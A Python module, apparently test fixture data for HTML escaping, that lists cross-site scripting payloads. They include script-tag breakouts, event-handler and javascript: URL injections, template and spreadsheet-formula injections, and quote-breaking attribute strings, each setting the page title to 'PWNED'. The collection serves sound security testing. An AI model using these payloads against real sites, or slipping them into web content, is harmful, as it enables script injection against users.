"""Texts that try to become code where a page forgets to escape: each would set the title to PWNED."""

from __future__ import annotations

from itertools import product

ACT = "document.title='PWNED'"

_PLAIN = (
    f"<script>{ACT}</script>",
    f"</script><script>{ACT}</script>",
    f"</ScRiPt ><ScRiPt>{ACT}</ScRiPt>",
    f"<!--<script>-->{ACT}//",
    f"--><script>{ACT}</script><!--",
    f"<![CDATA[<script>{ACT}</script>]]>",
    f"</title><script>{ACT}</script>",
    f"</style><script>{ACT}</script>",
    f"</textarea><script>{ACT}</script>",
    f"</svg><script>{ACT}</script>",
    f"<svg><script>{ACT}</script></svg>",
    f'<svg><script href="data:text/javascript,{ACT}"/></svg>',
    f"<svg><animate onbegin={ACT} attributeName=x dur=1s></svg>",
    f"<math><mtext></mtext><script>{ACT}</script></math>",
    f'<iframe srcdoc="<script>parent.{ACT}</script>"></iframe>',
    f'<iframe src="javascript:parent.{ACT}"></iframe>',
    f'<object data="javascript:{ACT}"></object>',
    f'<a href="javascript:{ACT}">x</a>',
    f'<base href="javascript:{ACT}//">',
    f'<meta http-equiv=refresh content="0;url=javascript:{ACT}">',
    f'<form action="javascript:{ACT}"><button>x</button></form>',
    f"<details open ontoggle={ACT}>x</details>",
    f'<link rel=stylesheet href="data:text/css,*{{}}" onload={ACT}>',
    f"<style>@import 'data:text/css,*{{}}';</style><img src=x onerror={ACT}>",
    f"{{{{ {ACT} }}}}",
    "{{ 7 * 7 }}{% raw %}<b>PWNED</b>{% endraw %}",
    f"${{{ACT}}}",
    f"\u2028{ACT}\u2029",
    f"\\u003cscript\\u003e{ACT}\\u003c/script\\u003e",
    f"&lt;script&gt;{ACT}&lt;/script&gt;",
    f'=HYPERLINK("javascript:{ACT}")',
    f'"}}]}};{ACT};//',
    f"';{ACT};//",
)
_TAGS = ("img src=x onerror", "svg onload", "body onload", "input autofocus onfocus", "video src=x onerror")
_OPENERS = ("<", '"><', "'><", "</text><", '" ><', "-->", "</script><")
PAYLOADS = (
    *_PLAIN,
    *(f"{opener.rstrip('<') if opener == '-->' else opener}{'<' if opener == '-->' else ''}{tag}={ACT}>"
      for opener, tag in product(_OPENERS, _TAGS)),
    *(f"{quote} onmouseover={ACT} autofocus onfocus={ACT} x={quote}" for quote in ("\"", "'", "`")),
)  # fmt: skip
